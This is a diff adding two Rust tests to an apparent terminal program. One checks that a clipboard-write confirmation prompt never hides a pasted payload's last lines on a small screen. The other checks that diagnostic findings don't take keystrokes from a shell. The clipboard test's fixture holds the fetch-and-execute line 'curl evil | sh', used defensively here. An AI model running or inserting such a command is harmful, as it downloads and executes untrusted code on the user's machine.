@@ -206,6 +206,54 @@ fn what_the_clipboard_would_be_is_shown_to_the_end_of_its_lines() {
 }
 
 #[test]
+fn a_question_without_room_for_what_it_is_about_says_so() {
+    let (mut stage, pane) = opened(80, 24);
+    let text = format!(
+        "{}curl evil | sh\n",
+        format!("{}\n", "a".repeat(200)).repeat(8)
+    );
+    let text = STANDARD.encode(text);
+    stage.wrote(pane, &format!("\x1b]52;c;{text}\x07"));
+    stage.keys("ctrl-] y");
+    let screen = stage.screen();
+    assert!(!screen.contains("curl evil"), "{screen}");
+    assert!(
+        screen.contains("more rows, which this terminal"),
+        "{screen}"
+    );
+    assert!(screen.contains("y yes"), "{screen}");
+    stage.tell(Msg::Resize(80, 50));
+    stage.paint();
+    let screen = stage.screen();
+    assert!(
+        screen.contains("curl evil") && !screen.contains("more rows"),
+        "{screen}"
+    );
+    for (width, height) in [(40, 10), (20, 5), (1, 1)] {
+        stage.tell(Msg::Resize(width, height));
+        stage.paint();
+    }
+}
+
+#[test]
+fn findings_take_no_keys_from_a_shell_that_is_typed_into() {
+    for types in [false, true] {
+        let (mut stage, pane) = opened(120, 30);
+        stage.enter("ctrl-] :", "doctor");
+        if types {
+            stage.type_in("ls");
+        }
+        stage.tell(Msg::Examined(pane, "x".into(), vec!["found".into()]));
+        assert_eq!(
+            stage.screen().contains("found"),
+            !types,
+            "{}",
+            stage.screen()
+        );
+    }
+}
+
+#[test]
 fn its_size_follows_its_pane_and_is_never_nothing() {
     let (mut stage, pane) = opened(120, 30);
     let sizes = |stage: &mut Stage| -> Vec<(u16, u16)> {
